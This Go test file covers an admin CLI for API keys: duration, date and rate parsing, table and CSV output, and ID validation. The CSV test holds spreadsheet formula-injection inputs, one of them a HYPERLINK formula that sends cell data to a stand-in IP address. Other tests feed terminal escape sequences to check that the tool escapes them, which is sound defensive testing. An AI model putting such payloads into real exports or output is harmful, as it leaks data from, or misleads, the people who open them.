package main

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/grpc-api-key/grpc-api-key/interceptor/admin/adminpb"
)

func TestParseSpan(t *testing.T) {
	for text, want := range map[string]time.Duration{
		"90d": 90 * 24 * time.Hour, "2w": 14 * 24 * time.Hour, "1d12h": 36 * time.Hour,
		"30m": 30 * time.Minute, "0s": 0, "1w1d1h": (8*24 + 1) * time.Hour,
	} {
		got, err := parseSpan(text)
		require.NoError(t, err, text)
		require.Equal(t, want, got, text)
	}
	for _, text := range []string{"", "d", "1", "1y", "-1d", "9999999999999999999d", "300000d",
		"1d 2h", "1.5x"} {
		_, err := parseSpan(text)
		require.Error(t, err, text)
	}
}

func TestParseTime(t *testing.T) {
	now := time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)
	for _, tt := range []struct {
		text string
		d    direction
		want time.Time
	}{
		{"7d", ahead, now.AddDate(0, 0, 7)},
		{"7d", back, now.AddDate(0, 0, -7)},
		{"-7d", ahead, now.AddDate(0, 0, -7)},
		{"+7d", back, now.AddDate(0, 0, 7)},
		{"2026-12-31", back, time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC)},
		{"2026-12-31T18:00:00+02:00", back, time.Date(2026, 12, 31, 16, 0, 0, 0, time.UTC)},
	} {
		got, err := parseTime(tt.text, now, tt.d)
		require.NoError(t, err, tt.text)
		require.True(t, tt.want.Equal(got), "%s: %v", tt.text, got)
	}
	for _, text := range []string{"", "tomorrow", "2026-13-01", "+", "-", "+-1d", "31.12.2026"} {
		_, err := parseTime(text, now, ahead)
		require.Error(t, err, text)
	}
}

func TestRelative(t *testing.T) {
	now := time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)
	for d, want := range map[time.Duration]string{
		0: "now", 999 * time.Millisecond: "now", time.Second: "in 1s", -59 * time.Second: "59s ago",
		-time.Minute: "1m ago", 90 * time.Minute: "in 2h", 47 * time.Hour: "in 47h",
		90*24*time.Hour - time.Second: "in 90d", -800 * 24 * time.Hour: "2y ago",
		24 * time.Hour: "in 24h",
	} {
		require.Equal(t, want, relativeTo(now.Add(d), now), d)
	}
	require.Equal(t, "-", relative(nil))
}

// The store knows the last use to the minute, so the minute of a use may be before the key was
// created, and a number of seconds would be invented.
func TestLastUse(t *testing.T) {
	now := time.Date(2026, 12, 1, 9, 0, 59, 0, time.UTC)
	for d, want := range map[time.Duration]string{
		0: "now", -59 * time.Second: "now", -time.Minute: "1m ago", time.Minute: "now",
		-47 * time.Hour: "47h ago",
	} {
		require.Equal(t, want, lastUseTo(now.Add(d), now), d)
	}
	minute := time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)
	require.Regexp(t, `^2026-12-01T09:00Z \(`, exactUse(&minute))
	require.Equal(t, "-", lastUse(nil))
	require.Equal(t, "-", exactUse(nil))
}

func TestParseRate(t *testing.T) {
	for text, want := range map[string]*adminpb.RateLimit{
		"10/s:20": {PerSecond: 10, Burst: 20}, "600/m": {PerSecond: 10, Burst: 10},
		"36/h": {PerSecond: 0.01, Burst: 1}, "0.5/s:1": {PerSecond: 0.5, Burst: 1},
	} {
		got, err := parseRate(text)
		require.NoError(t, err, text)
		require.Equal(t, want.PerSecond, got.PerSecond, text)
		require.Equal(t, want.Burst, got.Burst, text)
	}
	for _, text := range []string{"", "10", "10/s:", "10/s:0", "0/s", "-1/s", "NaN/s", "Inf/s",
		"10/d", "10/s:20:30", "10/s:99999999999"} {
		_, err := parseRate(text)
		require.Error(t, err, text)
	}
}

// What a server sends cannot command a terminal.
func TestPrintable(t *testing.T) {
	require.Equal(t, "-", printable(""))
	require.Equal(t, "Zoë's \"key\"", printable("Zoë's \"key\""))
	require.Equal(t, `\x1b[31mred`, printable("\x1b[31mred"))
	require.Equal(t, `a\nb\tc`, printable("a\nb\tc"))
	require.Equal(t, `\u202eabc`, printable("\u202eabc"))
	require.Equal(t, `\xff`, printable("\xff"))
}

func TestWriteTable(t *testing.T) {
	rows := []record{
		event{KeyID: "k", Action: "create", Reason: "a long reason\x1b[2J"},
		event{KeyID: "key2", Action: "revoke", Actor: "unix:alice(1000)"},
	}
	var wide, narrow, least bytes.Buffer
	require.NoError(t, writeTable(&wide, rows, 0))
	require.Equal(t, `TIME                  ACTION  KEY   ACTOR             REASON
0001-01-01T00:00:00Z  create  k     -                 a long reason\x1b[2J
0001-01-01T00:00:00Z  revoke  key2  unix:alice(1000)  -
`, wide.String())
	require.NoError(t, writeTable(&narrow, rows, 60))
	require.Equal(t, `TIME                  ACTION  KEY   ACTOR
0001-01-01T00:00:00Z  create  k     -
0001-01-01T00:00:00Z  revoke  key2  unix:alice(1000)
`, narrow.String())
	require.NoError(t, writeTable(&least, rows[:1], 30))
	require.Equal(t, `TIME    0001-01-01T00:00:00Z
ACTION  create
KEY     k
ACTOR   -
REASON  a long reason\x1b[2J
`, least.String())
}

// No cell of a spreadsheet is a formula, and a program gets every text back.
func TestCSV(t *testing.T) {
	texts := []string{"", "ci", "a=b", "=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "\nx", "'quoted'",
		"''", "＝1", "＠x", `=HYPERLINK("http://192.0.2.1/?"&A1,"x")`, "a\n=b", "a,=b", `",=b`, "\xff"}
	var file bytes.Buffer
	write := csvWriter(&file)
	for _, text := range texts {
		require.NoError(t, write(&key{ID: "id", Name: text, Owner: text, Scopes: []string{text},
			DisableReason: text, RevokeReason: text}))
	}
	require.NoError(t, write(nil))
	rows, err := csv.NewReader(&file).ReadAll()
	require.NoError(t, err)
	for i, row := range rows[1:] {
		for column, cell := range row {
			require.False(t, cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n"), "%q", cell)
			require.False(t, strings.HasPrefix(cell, "＝") || strings.HasPrefix(cell, "＠"), "%q", cell)
			switch rows[0][column] {
			case "name", "owner", "scopes", "disable_reason", "revoke_reason":
				require.Equal(t, texts[i], strings.TrimPrefix(cell, "'"))
			}
		}
	}
}

// The keys of a batch come without the last use and the open streams, so neither is printed as if
// the key were unused.
func TestBatchKey(t *testing.T) {
	var names []string
	for _, f := range (batchKey{}).row() {
		names = append(names, f.name)
	}
	require.Equal(t, []string{"ID", "NAME", "OWNER", "STATE", "EXPIRES", "SCOPES"}, names)
	text, err := encode(batchKey{key: key{ID: "01k9"}}, "", "")
	require.NoError(t, err)
	require.Contains(t, string(text), `"id":"01k9"`)
	require.NotContains(t, string(text), "last_use_time")
	require.NotContains(t, string(text), "live_streams")
}

// The last columns have the credits, in the words of --credits and --refill.
func TestCSVHasCredits(t *testing.T) {
	var file bytes.Buffer
	write := csvWriter(&file)
	for _, c := range []*credits{nil, {Remaining: 0}, {Remaining: 7, Refill: &refill{Amount: 1000,
		MonthDay: 31}}} {
		require.NoError(t, write(&key{ID: "id", Credits: c}))
	}
	require.NoError(t, write(nil))
	rows, err := csv.NewReader(&file).ReadAll()
	require.NoError(t, err)
	var last [][]string
	for _, row := range rows {
		last = append(last, row[len(row)-2:])
	}
	require.Equal(t, [][]string{{"credits", "refill"}, {"", ""}, {"0", ""}, {"7", "1000/month:31"}}, last)
}

func TestSizeText(t *testing.T) {
	require.Equal(t, "0 bytes", sizeText(0))
	require.Equal(t, "1 byte", sizeText(1))
	require.Equal(t, "1.0 KiB", sizeText(1024))
	require.Equal(t, "1.5 MiB", sizeText(3<<19))
}

func TestQuestionNamesTheLargestOwners(t *testing.T) {
	s := &selection{keys: 22, owners: map[string]int{
		"a": 1, "b": 2, "c": 3, "d": 4, "e": 5, "": 6, "f": 1}}
	require.Equal(t, "This revokes 22 keys of 7 owners for good (no owner: 6, e: 5, d: 4, c: 3, b: 2, "+
		"2 more), and ends their streams.", s.question())
}

func TestIDs(t *testing.T) {
	const anID = "01k9x3v7q2f8hr6m5w0c4tzbnd"
	for _, text := range []string{anID, "keys/" + anID} {
		name, err := nameOf(text)
		require.NoError(t, err)
		require.Equal(t, "keys/"+anID, name)
	}
	for _, text := range []string{"", "keys/", "ci", strings.ToUpper(anID),
		"oil_" + anID + "_secret", anID + "0"} {
		_, err := nameOf(text)
		require.Error(t, err)
		if text != "" && text != "keys/" && text != "ci" {
			require.NotContains(t, err.Error(), text)
		}
	}
}
